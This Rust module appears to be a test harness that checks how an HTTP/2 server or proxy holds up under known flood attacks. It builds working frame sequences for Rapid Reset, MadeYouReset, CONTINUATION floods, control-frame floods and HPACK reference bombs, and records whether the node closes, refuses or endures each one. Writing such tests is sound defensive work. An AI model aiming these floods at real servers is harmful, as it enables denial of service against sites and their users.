//! HTTP/2 frames that cost the sender nothing.

use std::io::Write as _;
use std::time::Duration;

use anyhow::Result;

use super::offender::{Attack, Ends, Offender};
use super::{Deadlines, Scene, host};
use crate::client::h2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Event, H2, HEADERS, PADDED, PING, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_SIZE, WINDOW_UPDATE, fields, frame, request,
};

/// Frames of one write.
const EACH: u64 = 50;

/// What h2 and the node have for whoever floods.
const FLOOD: &[&str] = &["code=\"PP02\""];

/// Floods end as soon as they are noticed, the ten-second window of the counts at the latest.
fn at_once(_: &Deadlines) -> u64 {
    10
}

const fn flood(
    name: &'static str,
    about: &'static str,
    unit: &'static str,
    run: fn(&Scene, &mut Offender) -> Result<()>,
) -> Attack {
    Attack { name, about, unit, ends: Ends::Closed(at_once), counters: FLOOD, run, in_short: true }
}

pub(super) const ALL: &[Attack] = &[
    flood(
        "rapid-reset",
        "Streams that are opened and reset at once (CVE-2023-44487).",
        "stream",
        rapid_reset,
    ),
    flood(
        "made-you-reset",
        "Streams that the node is made to reset, by an update of zero (CVE-2025-8671).",
        "stream",
        made_you_reset,
    ),
    flood(
        "continuation-empty",
        "A header block that goes on in empty frames (CVE-2024-27316).",
        "frame",
        |scene, offender| continuation(scene, offender, &frame(CONTINUATION, 0, 1, &[])),
    ),
    flood(
        "continuation-large",
        "A header block that goes on in large frames.",
        "frame",
        |scene, offender| {
            let field = fields(&[("x", &"y".repeat(10_000))]);
            continuation(scene, offender, &frame(CONTINUATION, 0, 1, &field))
        },
    ),
    flood(
        "settings",
        "SETTINGS, each of which is to be acknowledged.",
        "frame",
        |scene, offender| {
            control_frames(scene, offender, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]))
        },
    ),
    flood("ping", "PINGs, each of which is to be answered.", "frame", |scene, offender| {
        control_frames(scene, offender, &frame(PING, 0, 0, &[0; 8]))
    }),
    Attack {
        in_short: false,
        ..flood("priority", "PRIORITY frames.", "frame", |scene, offender| {
            control_frames(scene, offender, &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]))
        })
    },
    Attack {
        in_short: false,
        ..flood("window-update", "WINDOW_UPDATEs of one byte.", "frame", |scene, offender| {
            control_frames(scene, offender, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
        })
    },
    Attack {
        in_short: false,
        ..flood(
            "unknown-frames",
            "Frames of a kind that nobody knows.",
            "frame",
            |scene, offender| control_frames(scene, offender, &frame(0xfa, 0, 0, &[0; 20])),
        )
    },
    flood("empty-data", "DATA frames without data (RUSTSEC-2026-0258).", "frame", empty_data),
    Attack {
        in_short: false,
        ..flood("padded-data", "DATA frames of padding only.", "frame", padded_data)
    },
    Attack {
        ends: Ends::Endured,
        counters: &[],
        ..flood(
            "too-many-streams",
            "Two thousand streams on one connection, none of which is answered soon.",
            "stream",
            too_many_streams,
        )
    },
    Attack {
        ends: Ends::Refused,
        counters: &["PP04", "PP02", "4xx"],
        ..flood(
            "hpack-bomb",
            "A field of 4,000 bytes in the table, and thousands of references to it.",
            "stream",
            hpack_bomb,
        )
    },
    Attack {
        ends: Ends::Refused,
        counters: &["PP04", "PP02", "4xx"],
        ..flood(
            "reference-bomb",
            "450 fields of one byte each in 100 streams, whose answers are not taken (CVE-2026-49975).",
            "stream",
            reference_bomb,
        )
    },
];

fn client(scene: &Scene) -> Result<H2> {
    H2::start(scene.tls(&["h2"])?, &[])
}

fn rapid_reset(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let mut client = client(scene)?;
    let (mut id, host) = (1, host("web"));
    offender.flood(&mut client, EACH, |_| {
        let mut bytes = Vec::new();
        for _ in 0..EACH {
            bytes.extend(request(id, "GET", &host, "/wait/1000", &[], true));
            bytes.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
            id += 2;
        }
        bytes
    })
}

fn made_you_reset(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let mut client = client(scene)?;
    let (mut id, host) = (1, host("web"));
    offender.flood(&mut client, EACH, |_| {
        let mut bytes = Vec::new();
        for _ in 0..EACH {
            bytes.extend(request(id, "GET", &host, "/wait/1000", &[], true));
            bytes.extend(frame(WINDOW_UPDATE, 0, id, &[0; 4]));
            id += 2;
        }
        bytes
    })
}

fn continuation(scene: &Scene, offender: &mut Offender, part: &[u8]) -> Result<()> {
    let mut client = client(scene)?;
    let block = fields(&[(":method", "GET"), (":scheme", "https")]);
    client.send(&frame(HEADERS, END_STREAM, 1, &block))?;
    offender.flood(&mut client, 1, |_| part.to_vec())
}

/// After a good request, so that it is the flood that is answered.
fn control_frames(scene: &Scene, offender: &mut Offender, part: &[u8]) -> Result<()> {
    let mut client = client(scene)?;
    client.get(&host("web"), "/")?;
    offender.flood(&mut client, EACH, |_| part.repeat(EACH as usize))
}

fn empty_data(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let mut client = client(scene)?;
    client.send(&request(1, "POST", &host("web"), "/echo", &[], false))?;
    let part = frame(DATA, 0, 1, &[]).repeat(EACH as usize);
    offender.flood(&mut client, EACH, |_| part.clone())
}

/// Padding counts against the window, so it is empty padding: one byte that says so.
fn padded_data(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let mut client = client(scene)?;
    client.send(&request(1, "POST", &host("web"), "/echo", &[], false))?;
    let part = frame(DATA, PADDED, 1, &[0]).repeat(EACH as usize);
    offender.flood(&mut client, EACH, |_| part.clone())
}

fn too_many_streams(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let mut client = client(scene)?;
    let host = host("web");
    for _ in 0..2_000 {
        let id = client.open();
        if client.send(&request(id, "GET", &host, "/wait/2000", &[], true)).is_err() {
            break;
        }
        offender.sent += 1;
    }
    offender.listen(&mut client)
}

/// What is said to streams that ask for too much; the connection may go on.
fn refusals(offender: &mut Offender, client: &mut H2) -> Result<()> {
    loop {
        match client.event(offender.left().min(Duration::from_secs(3)))? {
            Event::Frame(frame) if frame.kind == RST_STREAM || frame.kind == HEADERS => {
                let kind = if frame.kind == HEADERS { "an answer" } else { "a reset" };
                offender.say(format!("{kind} for stream {}", frame.stream));
            }
            Event::Frame(frame) if frame.code().is_some() && frame.kind == 7 => {
                offender.say(format!("GOAWAY {}", frame.code().unwrap_or_default()));
            }
            Event::Frame(_) => {}
            Event::Silence => return Ok(()),
            Event::Closed => {
                offender.say("closed");
                offender.closed();
                return Ok(());
            }
        }
    }
}

fn hpack_bomb(scene: &Scene, offender: &mut Offender) -> Result<()> {
    // Put into the table: 4,000 bytes need a length of three.
    let literal = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4_000]].concat();
    references(client(scene)?, offender, 20, "/wait/1000", &literal, 8_000)
}

fn reference_bomb(scene: &Scene, offender: &mut Offender) -> Result<()> {
    let client = H2::start(scene.tls(&["h2"])?, &[(WINDOW_SIZE, 0)])?;
    references(client, offender, 100, "/bytes/1000", &[0x40, 1, b'c', 1, b'd'], 450)
}

/// Streams whose heads refer `each` times to the field that `literal` puts into the table.
fn references(
    mut client: H2,
    offender: &mut Offender,
    streams: usize,
    path: &str,
    literal: &[u8],
    each: usize,
) -> Result<()> {
    const INDEXED_62: u8 = 0x80 | 62;
    let host = host("web");
    let head = [(":method", "GET"), (":scheme", "https"), (":authority", &*host), (":path", path)];
    for round in 0..streams {
        let id = client.open();
        let mut block = fields(&head);
        if round == 0 {
            block.extend(literal);
        }
        block.resize(block.len() + each, INDEXED_62);
        if client.send(&frame(HEADERS, END_HEADERS | END_STREAM, id, &block)).is_err() {
            break;
        }
        offender.sent += 1;
    }
    // Whoever is turned away in the middle cannot send the rest, and is told why all the same.
    drop(client.raw().flush());
    refusals(offender, &mut client)
}
